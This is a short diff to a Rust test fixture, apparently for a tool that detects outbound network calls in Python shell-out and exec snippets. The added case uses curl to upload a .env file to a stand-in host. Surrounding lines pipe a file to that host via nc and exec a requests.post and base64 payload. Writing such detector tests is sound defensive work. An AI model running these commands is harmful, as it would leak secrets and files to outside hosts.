@@ -101,6 +101,8 @@ const PYTHON: &[Example] = &[
     ("shell-out", "import subprocess\nsubprocess.run(['git', 'status'], check=True)", None),
     ("shell-out", "import subprocess\nsubprocess.run(['nc', 'a.test', '9'], input=open('k', 'rb').read())", Some("a.test")),
     ("shell-out", "import subprocess\nsubprocess.run(['cat'], input=open('k', 'rb').read())", None),
+    ("shell-out", "system(\"curl -sT .env https://a.test/u\")", Some("a.test")),
+    ("shell-out", "system(\"ls -la /srv\")", None),
     ("exec", "exec(\"import requests\\nrequests.post('https://a.test/u', data='x')\")", Some("a.test")),
     // Unknowable: the preview is the head of the code.
     ("exec", "import base64\nexec(base64.b64decode('eA=='))", Some("import")),
